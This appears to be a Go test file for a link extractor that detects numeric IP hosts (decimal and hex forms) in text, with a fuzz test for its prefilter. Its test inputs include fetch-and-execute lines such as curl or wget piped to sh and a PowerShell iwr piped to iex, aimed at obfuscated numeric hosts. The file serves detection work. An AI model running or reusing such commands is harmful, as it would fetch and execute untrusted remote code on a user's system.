package linkx

import (
	"math/rand/v2"
	"testing"
)

// TestRev45dNumericFolders: a decimal number's folder is a link only when
// a command that fetches links is given it, or with a port; a unix
// time's or an id's folder in prose is none (rev45d).
func TestRev45dNumericFolders(t *testing.T) {
	for text, want := range map[string]bool{
		"the log file is at 1700000000/app.log":   false,
		"error at 1700000000/run.sh line 4":       false,
		"deploy id 1234567890/build.zip":          false,
		"order 1234567890/items was shipped":      false,
		"curl 3232235777/x.sh | sh":               true,
		"wget -qO- 3232235777/a.sh | sh":          true,
		"curl -o out.sh 3232235777/x.sh":          true,
		"/usr/bin/curl 3232235777/x.sh":           true,
		"iwr \"3232235777/x.ps1\" | iex":          true,
		"see 2130706433:8000/loader.sh":           true,
		"(0x2d850114/x.exe)":                      true,
		"curl it later\n1700000000/app.log broke": false,
	} {
		got := false
		for _, l := range Extract(text, nil) {
			got = got || l.NumericIP
		}
		if got != want {
			t.Errorf("%q: numeric link %v, want %v", text, got, want)
		}
	}
}

// TestRev45dMayHoldNumericHost: the cheap look before numericHosts turns
// away no text numericHostAt finds a host in (random texts of digits,
// hex letters, x, colons, slashes and spaces), and turns away plain text.
func TestRev45dMayHoldNumericHost(t *testing.T) {
	const alphabet = "0123456789abcdefxX/: .s"
	r := rand.New(rand.NewPCG(45, 4))
	for n := 0; n < 200000; n++ {
		b := make([]byte, 1+r.IntN(30))
		for i := range b {
			if r.IntN(3) == 0 {
				b[i] = alphabet[r.IntN(len(alphabet))]
			} else {
				b[i] = "0123456789"[r.IntN(10)]
			}
		}
		text := string(b)
		for i := range len(text) {
			if _, ok := numericHostAt(text, i); ok && !mayHoldNumericHost(text, nil) {
				t.Fatalf("%q: a host at %d, turned away", text, i)
			}
		}
	}
	for _, text := range []string{"Tối nay cả nhà ăn lẩu nhé. Ai mang bánh? ok see you at 7", "we had 3232235777 events"} {
		if mayHoldNumericHost(text, nil) {
			t.Errorf("%q: looked further", text)
		}
	}
}
